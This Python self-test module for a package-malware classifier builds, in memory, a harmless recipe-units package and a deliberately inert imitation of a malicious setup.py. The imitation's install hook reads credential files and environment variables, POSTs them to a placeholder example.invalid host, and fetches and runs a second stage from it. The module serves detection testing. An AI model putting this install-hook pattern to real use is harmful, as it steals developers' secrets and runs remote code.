"""Does this installation work? An inert package that must be malicious and a harmless one are judged, both in memory.

The inert one is for packages what the EICAR file is for virus scanners: it shows what attacks do and can do nothing.
Its hosts are under ``example.invalid``, a name that never resolves (RFC 2606), and what it decodes and runs is
``pass``. It is never written to disk.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, NamedTuple

from darnel.features.package import Ecosystem, MemoryPackage
from darnel.verdict import Label, Verdict

if TYPE_CHECKING:
    from darnel.classifier import Classifier

_INERT_SETUP = """\
# INERT self-test of darnel, not malware: its hosts are under example.invalid and its payload is the statement "pass".
import base64
import os
import subprocess
import sys
import urllib.request

from setuptools import setup
from setuptools.command.install import install


def collect():
    found = dict(os.environ)
    for name in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.npmrc", "~/.config/google-chrome/Default/Login Data"):
        try:
            with open(os.path.expanduser(name), "rb") as stream:
                found[name] = base64.b64encode(stream.read()).decode()
        except Exception:
            pass
    return found


class Install(install):
    def run(self):
        data = repr(collect()).encode()
        request = urllib.request.Request("http://collect.example.invalid/upload", data=data, method="POST")
        try:
            urllib.request.urlopen(request, timeout=1)
            code = urllib.request.urlopen("http://collect.example.invalid/stage2.py", timeout=1).read()
            subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except Exception:
            pass
        install.run(self)


exec(base64.b64decode("cGFzcw=="))
setup(name="darnel-inert-selftest", version="99.0.0", packages=[], cmdclass={"install": Install})
"""

_INERT_METADATA = """\
Metadata-Version: 2.1
Name: darnel-inert-selftest
Version: 99.0.0
Summary: inert self-test
"""

_HARMLESS_MODULE = '''\
"""Lengths in the units that recipes use."""

from __future__ import annotations

CUPS_PER_LITRE = 4.2268


def litres(cups: float) -> float:
    """Convert cups to litres.

    >>> round(litres(4.2268), 3)
    1.0
    """
    if cups < 0:
        raise ValueError("a volume cannot be negative")
    return cups / CUPS_PER_LITRE


def cups(litres: float) -> float:
    """Convert litres to cups."""
    return litres * CUPS_PER_LITRE
'''

_HARMLESS_TEST = """\
from recipe_units import cups, litres


def test_round_trip():
    assert abs(litres(cups(2.0)) - 2.0) < 1e-9
"""

_HARMLESS_PYPROJECT = """\
[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"

[project]
name = "recipe-units"
version = "1.2.0"
description = "Convert between the units that recipes use"
readme = "README.md"
requires-python = ">=3.9"
license = { text = "MIT" }
authors = [{ name = "Ada Cook", email = "ada@example.com" }]

[project.urls]
Homepage = "https://github.com/example/recipe-units"
"""

_HARMLESS_README = """\
# recipe-units

Convert between the units that recipes use: cups, litres, spoons and grams.

```python
from recipe_units import litres
litres(2)
```

## Development

Run the tests with `pytest`. Changes are listed in the releases.
"""

_HARMLESS_METADATA = f"""\
Metadata-Version: 2.1
Name: recipe-units
Version: 1.2.0
Summary: Convert between the units that recipes use
Home-page: https://github.com/example/recipe-units
Author: Ada Cook
Author-email: ada@example.com
License: MIT
Classifier: Programming Language :: Python :: 3
Requires-Python: >=3.9
Description-Content-Type: text/markdown

{_HARMLESS_README}"""


class Check(NamedTuple):
    """One thing the self-test looked at."""

    what: str
    passed: bool
    found: str
    """What was found, one line."""


class Result(NamedTuple):
    """Everything that the self-test found."""

    checks: list[Check]
    inert: Verdict
    """On the package that must be malicious."""


def inert_package() -> MemoryPackage:
    """Make the package that must come out ``malicious``."""
    files = {"setup.py": _INERT_SETUP.encode(), "PKG-INFO": _INERT_METADATA.encode()}
    return MemoryPackage(files, Ecosystem.PYPI, name="darnel-inert-selftest", version="99.0.0", source="<self-test>")


def harmless_package() -> MemoryPackage:
    """Make the package that must come out ``clean``."""
    files = {
        "recipe_units/__init__.py": _HARMLESS_MODULE,
        "tests/test_recipe_units.py": _HARMLESS_TEST,
        "pyproject.toml": _HARMLESS_PYPROJECT,
        "README.md": _HARMLESS_README,
        "PKG-INFO": _HARMLESS_METADATA,
    }
    encoded = {path: text.encode() for path, text in files.items()}
    return MemoryPackage(encoded, Ecosystem.PYPI, name="recipe-units", version="1.2.0", source="<self-test>")


def run(classifier: Classifier) -> Result:
    """Judge both packages and compare; nothing is raised for a wrong verdict."""
    bad = classifier.predict(inert_package(), excerpts=True)
    good = classifier.predict(harmless_package())
    places = sorted({e.line for e in bad.evidence if e.file == "setup.py" and e.line})
    checks = [
        Check("an inert imitation of malware is malicious", bad.label is Label.MALICIOUS, _found(bad)),
        Check("the evidence points at its lines", bool(places), f"setup.py lines {places}"),
        Check("a harmless package is clean", good.label is Label.CLEAN, _found(good)),
    ]
    return Result(checks, bad)


def _found(verdict: Verdict) -> str:
    from darnel.reports.words import score_words  # not needed to judge

    return f"{verdict.label}, p {score_words(verdict.score)}"
